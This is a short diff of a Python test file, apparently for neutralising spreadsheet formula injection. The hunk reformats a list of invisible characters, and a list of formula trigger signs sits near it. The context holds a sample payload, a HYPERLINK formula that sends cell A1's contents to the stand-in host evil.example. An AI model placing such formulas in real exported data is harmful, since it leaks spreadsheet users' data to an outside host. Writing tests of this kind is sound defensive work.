@@ -29,9 +29,7 @@ DEFUSED: dict[str, Callable[[str], str]] = {
 # All that is not an ideograph or somebody's own. Each worker makes the lists: of all there are, they take a second.
 CHARACTERS = [chr(code) for code in (*range(0x20000), *range(0xE0000, 0xE1000))]
 SIGNS = [char for char in CHARACTERS if unicodedata.normalize("NFKC", char)[:1] in set("=+-@")]
-UNSEEN = [
-    char for char in CHARACTERS if char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
-]
+UNSEEN = [char for char in CHARACTERS if char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}]
 LINK = '=HYPERLINK("https://evil.example/?"&A1;"x")'
 CASES = [
     LINK,
